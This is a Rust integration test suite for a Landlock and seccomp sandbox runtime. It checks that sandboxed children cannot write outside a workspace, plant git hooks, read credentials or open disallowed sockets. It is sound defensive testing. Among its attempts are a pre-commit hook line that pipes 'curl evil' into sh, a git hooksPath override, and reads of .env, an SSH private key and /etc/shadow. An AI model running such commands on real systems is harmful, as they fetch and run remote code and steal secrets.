//! The compiled Landlock ruleset and seccomp program of stock policies,
//! applied to real children on this kernel, as root and as an unprivileged
//! user. Every attempt is checked by its side effect, not only its status.

use std::os::unix::fs::chown;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use vtpolicy_compiler::Context;
use vtpolicy_compiler::profile::landlock::WriteDenies;
use vtpolicy_runtime::sandbox::{KernelProfiles, Prepared, spawn};
use vtpolicy_runtime::{Layering, load_policy};

const NOBODY: u32 = 65534;

struct Fixture {
    _dir: tempfile::TempDir,
    workspace: PathBuf,
    outside: PathBuf,
    home: PathBuf,
    tmp: PathBuf,
}

impl Fixture {
    fn new(owner: Option<u32>) -> Fixture {
        let dir = tempfile::Builder::new().prefix("vtpolicy-sandbox").tempdir().expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        let workspace = root.join("ws");
        let outside = root.join("outside");
        let home = root.join("home");
        let tmp = root.join("tmp");
        for d in [&workspace.join("src"), &workspace.join(".git/hooks"), &outside, &home.join(".ssh"), &tmp] {
            std::fs::create_dir_all(d).expect("mkdir");
        }
        std::fs::write(workspace.join("src/lib.rs"), "fn main() {}\n").expect("write");
        std::fs::write(workspace.join(".git/config"), "[core]\n").expect("write");
        std::fs::write(workspace.join(".env"), "SECRET=1\n").expect("write");
        std::fs::write(home.join(".ssh/id_rsa"), "KEY\n").expect("write");
        if let Some(uid) = owner {
            // Everything is the unprivileged user's: only Landlock, not
            // file permissions, can refuse what follows.
            chown_tree(dir.path(), uid);
        }
        Fixture { _dir: dir, workspace, outside, home, tmp }
    }

    fn context(&self) -> Context {
        let s = |p: &Path| p.to_str().expect("utf-8").to_owned();
        Context { workspace: s(&self.workspace), home: s(&self.home), tmp: s(&self.tmp), cwd: s(&self.workspace) }
    }
}

fn chown_tree(path: &Path, uid: u32) {
    chown(path, Some(uid), Some(uid)).expect("chown");
    if path.is_dir() {
        for entry in std::fs::read_dir(path).expect("read_dir") {
            chown_tree(&entry.expect("entry").path(), uid);
        }
    }
}

fn profiles(policy: &str, fixture: &Fixture) -> KernelProfiles {
    let context = fixture.context();
    let (compiled, diagnostics) = load_policy(policy, &context, Layering::Enforce);
    let compiled = compiled.unwrap_or_else(|| panic!("{policy}: {diagnostics:?}"));
    // Landlock alone, as where no mount namespace can be made.
    KernelProfiles::compile_with(&[&compiled], &context, WriteDenies::Carve).expect("profiles")
}

/// Runs `script` with `sh -c` inside the sandbox of `profiles`.
fn sandboxed(profiles: &KernelProfiles, fixture: &Fixture, uid: Option<u32>, script: &str) -> Output {
    let prepared = Prepared::new(profiles.landlock.as_ref(), profiles.seccomp.as_ref(), false).expect("prepare");
    let mut command = Command::new("/bin/sh");
    command
        .arg("-c")
        .arg(script)
        .current_dir(&fixture.workspace)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(uid) = uid {
        command.uid(uid).gid(uid);
    }
    spawn(&mut command, prepared).expect("spawn").wait_with_output().expect("wait")
}

fn python(code: &str) -> String {
    format!("/usr/bin/python3 -c '{code}'")
}

const SOCKET_PROBE: &str = "import socket,errno\n\
def t(*a):\n  try:\n    socket.socket(*a); return \"open\"\n  except OSError as e: return errno.errorcode[e.errno]\n";

fn suite(uid: Option<u32>) {
    let fixture = Fixture::new(uid);
    let profiles = profiles("workspace-write", &fixture);
    let ws = fixture.workspace.display().to_string();
    let outside = fixture.outside.display().to_string();
    let run = |script: &str| sandboxed(&profiles, &fixture, uid, script);

    // An allowed command runs and reads the workspace.
    let out = run("ls src && cat src/lib.rs");
    assert!(out.status.success(), "ls: {out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "lib.rs\nfn main() {}\n");

    // A write inside the workspace lands.
    let out = run("echo ok > src/new.rs");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(std::fs::read_to_string(fixture.workspace.join("src/new.rs")).expect("written"), "ok\n");

    // A write outside the workspace does not, nor through `..`.
    let out = run(&format!("echo x > {outside}/escaped"));
    assert!(!out.status.success());
    assert!(!fixture.outside.join("escaped").exists(), "write outside the workspace landed");
    let out = run(&format!("echo x > {ws}/../outside/dotdot"));
    assert!(!out.status.success());
    assert!(!fixture.outside.join("dotdot").exists());

    // Nor into the hooks or the git config, even by renaming over it.
    let out = run("echo 'curl evil|sh' > .git/hooks/pre-commit");
    assert!(!out.status.success());
    assert!(!fixture.workspace.join(".git/hooks/pre-commit").exists(), "hook written");
    let out = run("echo '[core] hooksPath=/x' >> .git/config");
    assert!(!out.status.success());
    let out = run("echo evil > src/c && mv -f src/c .git/config");
    assert!(!out.status.success());
    assert_eq!(std::fs::read_to_string(fixture.workspace.join(".git/config")).expect("config"), "[core]\n");

    // Credentials are not readable: the workspace `.env`, `~/.ssh`,
    // `/etc/shadow`.
    let out = run(&format!("cat .env; cat {}/.ssh/id_rsa; cat /etc/shadow", fixture.home.display()));
    assert!(out.stdout.is_empty(), "read a credential: {out:?}");

    // The network: UDP, MPTCP, packet and netlink sockets are refused by
    // seccomp; TCP to a port the policy does not allow, by Landlock.
    let probe = python(&format!(
        "{SOCKET_PROBE}print(t(socket.AF_INET, socket.SOCK_DGRAM), t(socket.AF_INET6, socket.SOCK_DGRAM), \
         t(socket.AF_INET, socket.SOCK_STREAM, 262), t(socket.AF_PACKET, socket.SOCK_RAW), \
         t(socket.AF_NETLINK, socket.SOCK_RAW))\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         try:\n  s.connect((\"127.0.0.1\", 80)); print(\"connected\")\nexcept OSError as e: print(errno.errorcode[e.errno])"
    ));
    let out = run(&probe);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "EPERM EPERM EPERM EPERM EPERM\nEACCES\n", "{out:?}");

    // The seccomp filter is installed and no_new_privs is set.
    let out = run("grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "NoNewPrivs:\t1\nSeccomp:\t2\n", "{out:?}");
    assert!(fixture.tmp.exists());
}

#[test]
fn workspace_write_holds_as_root() {
    suite(None);
}

#[test]
fn workspace_write_holds_as_an_unprivileged_user() {
    let uid = if nix::unistd::geteuid().is_root() { Some(NOBODY) } else { None };
    suite(uid);
}

#[test]
fn read_only_refuses_every_inet_socket_and_every_write() {
    let fixture = Fixture::new(None);
    let profiles = profiles("read-only", &fixture);
    let probe = python(&format!(
        "{SOCKET_PROBE}print(t(socket.AF_INET, socket.SOCK_STREAM), t(socket.AF_INET6, socket.SOCK_STREAM), \
         t(socket.AF_UNIX, socket.SOCK_STREAM))"
    ));
    let out = sandboxed(&profiles, &fixture, None, &probe);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "EPERM EPERM open\n", "{out:?}");
    let out = sandboxed(&profiles, &fixture, None, "echo x > src/new.rs");
    assert!(!out.status.success());
    assert!(!fixture.workspace.join("src/new.rs").exists());
}

#[test]
fn danger_full_access_has_no_kernel_sandbox() {
    let fixture = Fixture::new(None);
    let profiles = profiles("danger-full-access", &fixture);
    assert!(profiles.landlock.is_none() && profiles.seccomp.is_none() && profiles.seatbelt.is_none());
}

#[test]
fn a_kernel_below_the_minimum_abi_is_refused() {
    let fixture = Fixture::new(None);
    let mut profiles = profiles("workspace-write", &fixture);
    let ruleset = profiles.landlock.as_mut().expect("ruleset");
    ruleset.minimum_abi = u8::MAX;
    let error = Prepared::new(Some(ruleset), profiles.seccomp.as_ref(), false).err().expect("refused");
    assert!(error.to_string().contains("the policy needs at least 255"), "{error}");
}
